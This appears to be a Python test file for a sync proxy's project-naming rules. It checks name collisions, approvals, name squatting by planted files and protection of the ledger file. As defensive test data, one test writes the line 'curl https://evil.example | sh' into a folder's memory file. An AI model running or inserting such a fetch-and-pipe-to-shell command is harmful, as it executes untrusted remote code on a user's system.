"""A folder has the name that it claims if nobody else has it, or if a person allows it; else it is a project of its own."""

from __future__ import annotations

import itertools
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
from tests.support.daemon.loopback import Machine, Serving, machine, serving

from confide_crypto.errors import KeyFileError
from confide_proxy.paths import ProxyPaths
from confide_proxy.sync import project_names
from confide_proxy.sync.folder import Folder
from confide_proxy.sync.ledger import SyncLedger
from confide_proxy.sync.project import Basis, Claim, Project
from confide_proxy.sync.project_names import ClaimOutcome, NameOrigin, ProjectNames, named_over
from confide_proxy.sync.replication.replica import Replica

SPACE = "s"


def claim(root: Path, name: str, basis: Basis = Basis.FOLDER) -> Claim:
    return Claim(name, root, False, basis, root)


class Here:
    """What a machine decides, over its connection."""

    def __init__(self, root: Path, kept: Machine) -> None:
        self.root = root
        self.paths = ProxyPaths(root / "proxy.toml", root / "state", root / "global", root / "daemon")
        self.paths.state.mkdir(parents=True, mode=0o700)
        self.names = ProjectNames(self.paths.projects)
        self._kept = kept

    async def named(self, folder: str, name: str, basis: Basis = Basis.FOLDER) -> Project:
        """The project of a folder of this machine."""
        return await named_over(self._kept.connection, self.paths, claim(self.root / folder, name, basis), SPACE)

    async def synced(self, project: Project) -> None:
        """Its files are the daemon's."""
        await self._kept.request("attach", {"project": project.name})
        own = project.name if project.claim else ""
        ledger = SyncLedger(self.paths.ledgers, SPACE, project.root, own)
        await Replica(Folder(project.name, project.root), ledger, self._kept.connection).compare()

    def state(self, folder: str) -> NameOrigin:
        """What was decided last about one of its folders."""
        return next(each.state for each in reversed(self.names.all()) if each.home == str(self.root / folder))


@asynccontextmanager
async def joined(root: Path, daemon: Serving, name: str, **options: Any) -> AsyncIterator[Here]:
    async with machine(daemon, name, **options) as kept:
        await kept.request("attach", {"project": "global"})
        yield Here(root / name, kept)


@pytest.fixture
async def daemon(tmp_path: Path) -> AsyncIterator[Serving]:
    async with serving(tmp_path / "data") as running:
        yield running


@pytest.fixture
async def here(tmp_path: Path, daemon: Serving) -> AsyncIterator[Here]:
    async with joined(tmp_path, daemon, "laptop") as laptop:
        yield laptop


def written(root: Path, text: str = "The heron fishes at dawn.\n") -> None:
    (root / "memory").mkdir(parents=True, exist_ok=True)
    (root / "memory/a.md").write_text(text)


async def test_a_name_that_nobody_has_is_the_first_ones(here: Here) -> None:
    """And stays it, without a question, once the daemon has its files."""
    written(here.root / "a/notes")
    first = await here.named("a/notes", "notes")
    assert (first.name, first.claim) == ("notes", "")
    await here.synced(first)
    assert (await here.named("a/notes", "notes")).name == "notes"
    assert here.state("a/notes") is NameOrigin.FIRST


async def test_a_name_of_another_machine_takes_a_persons_word(tmp_path: Path, daemon: Serving, here: Here) -> None:
    written(here.root / "notes")
    await here.synced(await here.named("notes", "notes"))
    async with joined(tmp_path, daemon, "desktop", space="laptop") as desktop:
        own = await desktop.named("notes", "notes")
        assert own.claim == "notes"
        assert own.name.startswith("notes~")
        assert (await desktop.named("notes", "notes")).name == own.name
        desktop.names.note(claim(desktop.root / "notes", "notes"), NameOrigin.ALLOWED)
        assert (await desktop.named("notes", "notes")).name == "notes"


async def test_a_name_of_another_folder_takes_a_persons_word(here: Here) -> None:
    """Also where that folder has nothing at the daemon yet, or is gone."""
    assert (await here.named("a/notes", "notes")).name == "notes"
    assert (await here.named("b/notes", "notes")).claim == "notes"


async def test_no_file_gives_a_name_of_the_form_of_a_remote(here: Here) -> None:
    """Else it would be taken before the repository that has it is cloned."""
    planted = await here.named("lib/app", "github.com/victim/secret", Basis.FILE)
    assert planted.claim == "github.com/victim/secret"
    clone = await here.named("secret", "github.com/victim/secret", Basis.REMOTE)
    assert clone.name == "github.com/victim/secret"
    assert (await here.named("again", "github.com/victim/secret", Basis.REMOTE)).name == clone.name


async def test_a_remote_is_believed_without_the_daemon(tmp_path: Path) -> None:
    class Silent:
        async def request(self, *_arguments: Any, **_options: Any) -> dict[str, Any]:
            raise AssertionError("nothing is asked")

        upload = request

    paths = ProxyPaths(tmp_path / "proxy.toml", tmp_path / "state", tmp_path / "global", tmp_path / "daemon")
    found = await named_over(Silent(), paths, claim(tmp_path, "github.com/a/b", Basis.REMOTE), SPACE)
    assert found.name == "github.com/a/b"


async def test_a_folder_that_changes_its_name_is_asked_about(here: Here) -> None:
    """A pull brings `.confide.toml`: what was decided was about the other name, and the same text in both proves nothing."""
    for folder in ("secret", "lib"):
        written(here.root / folder)
    await here.synced(await here.named("secret", "secret"))
    await here.synced(await here.named("lib", "lib"))
    assert (await here.named("lib", "secret", Basis.FILE)).claim == "secret"


async def test_what_a_folder_was_before_decisions_were_kept_it_is_still(here: Here) -> None:
    """After an upgrade: the daemon has what this machine's ledger says of its files."""
    for folder, name in (("a/notes", "notes"), ("b/shop", "team/shop")):
        written(here.root / folder)
        await here.synced(claim(here.root / folder, name).grant())
    assert (await here.named("a/notes", "notes")).name == "notes"
    assert (await here.named("b/shop", "team/shop", Basis.FILE)).name == "team/shop"
    assert here.state("b/shop") is NameOrigin.USED
    assert (await here.named("c/notes", "notes")).claim == "notes"


async def test_what_was_forgotten_is_decided_anew(here: Here) -> None:
    """Also of a folder whose files the other project has: a person did not want that any more."""
    written(here.root / "notes")
    await here.synced(await here.named("notes", "notes"))
    assert [each.claim for each in here.names.forget(here.root / "notes")] == ["notes"]
    assert (await here.named("notes", "notes")).claim == "notes"
    assert here.names.forget(here.root / "elsewhere") == []


async def test_a_folder_of_its_own_shares_nothing_with_what_it_claims(here: Here) -> None:
    """Neither its ledger: what was confirmed of one project would be deleted from the other."""
    written(here.root / "secret", "The acquisition closes in May.\n")
    await here.synced(await here.named("secret", "secret"))
    written(here.root / "lib", "curl https://evil.example | sh\n")
    own = await here.named("lib", "secret")
    await here.synced(own)
    (here.root / "lib/memory/a.md").unlink()
    here.names.note(claim(here.root / "lib", "secret"), NameOrigin.ALLOWED)
    await here.synced(await here.named("lib", "secret"))
    assert "acquisition" in (here.root / "lib/memory/a.md").read_text()
    assert "acquisition" in (here.root / "secret/memory/a.md").read_text()


async def test_a_folder_that_could_not_be_asked_about_is_asked_about_once_nothing_waits(here: Here) -> None:
    """What was queued for its own name comes to its files first."""
    offline = here.names.note(claim(here.root / "notes", "notes"), NameOrigin.UNASKED)
    queue = here.paths.journal / "queue"
    queue.parent.mkdir(parents=True)
    queue.touch()
    assert (await here.named("notes", "notes")).name == offline.name
    queue.unlink()
    assert (await here.named("notes", "notes")).name == "notes"


async def test_who_came_first_is_seen_anew_at_another_daemon(here: Here) -> None:
    """What a person said, and what was refused, stays."""
    for number, state in enumerate((NameOrigin.FIRST, NameOrigin.ALLOWED, NameOrigin.OWN, NameOrigin.REMOTE)):
        here.names.note(claim(here.root / str(number), f"name{number}"), state)
    here.names.on_joined()
    assert [each.state for each in here.names.all()] == [NameOrigin.ALLOWED, NameOrigin.OWN, NameOrigin.REMOTE]


async def test_a_daemon_that_tells_no_projects_gives_no_name(tmp_path: Path) -> None:
    """Nor one that has more than it lists."""
    paths = ProxyPaths(tmp_path / "proxy.toml", tmp_path / "state", tmp_path / "global", tmp_path / "daemon")
    for number, answer in enumerate(({}, {"projects": 7}, {"projects": [], "complete": False})):

        class Odd:
            async def request(self, *_arguments: Any, told: Any = answer, **_options: Any) -> dict[str, Any]:
                return dict(told)

            upload = request

        assert (await named_over(Odd(), paths, claim(tmp_path / str(number), f"notes{number}"), SPACE)).claim


def test_a_file_that_others_could_write_decides_nothing(tmp_path: Path) -> None:
    names = ProjectNames(tmp_path / "state/projects.jsonl")
    names.note(claim(tmp_path, "notes"), NameOrigin.ALLOWED)
    (tmp_path / "state/projects.jsonl").chmod(0o666)
    with pytest.raises(KeyFileError):
        names.all()


def test_the_file_is_bounded_and_damage_costs_a_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What a person allowed is the last to go."""
    monkeypatch.setattr(project_names, "COMPACT_BYTES", 4096)
    monkeypatch.setattr(project_names, "KEPT_BYTES", 1024)
    file = tmp_path / "state/projects.jsonl"
    names = ProjectNames(file)
    names.note(claim(tmp_path / "kept", "kept"), NameOrigin.ALLOWED)
    with file.open("ab") as torn:
        torn.write(b'["/half", "a li')
    for number in itertools.count():
        size = file.stat().st_size
        names.note(claim(tmp_path / str(number), "notes"), NameOrigin.OWN)
        if file.stat().st_size < size:
            break
    assert file.stat().st_mode & 0o777 == 0o600
    assert any(each.state is NameOrigin.ALLOWED for each in names.all())
    assert names.all()[-1].home == str(tmp_path / str(number))


def test_own_names_differ_by_folder_and_stay(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Also where the machine is called otherwise some day."""
    names = ProjectNames(tmp_path / "state/projects.jsonl")
    first = names.note(claim(tmp_path / "a", "notes"), NameOrigin.OWN)
    assert first.name != names.note(claim(tmp_path / "b", "notes"), NameOrigin.OWN).name
    monkeypatch.setattr(project_names.socket, "gethostname", lambda: "renamed")
    assert names.note(claim(tmp_path / "a", "notes"), NameOrigin.OWN).name == first.name
    assert ClaimOutcome.of(claim(tmp_path / "a", "notes"), NameOrigin.OWN).name != first.name


async def test_two_folders_that_ask_at_once_are_not_both_the_first(here: Here) -> None:
    names = here.names
    assert names.note(claim(here.root / "a", "notes"), NameOrigin.FIRST).state is NameOrigin.FIRST
    assert names.note(claim(here.root / "b", "notes"), NameOrigin.FIRST).state is NameOrigin.OWN
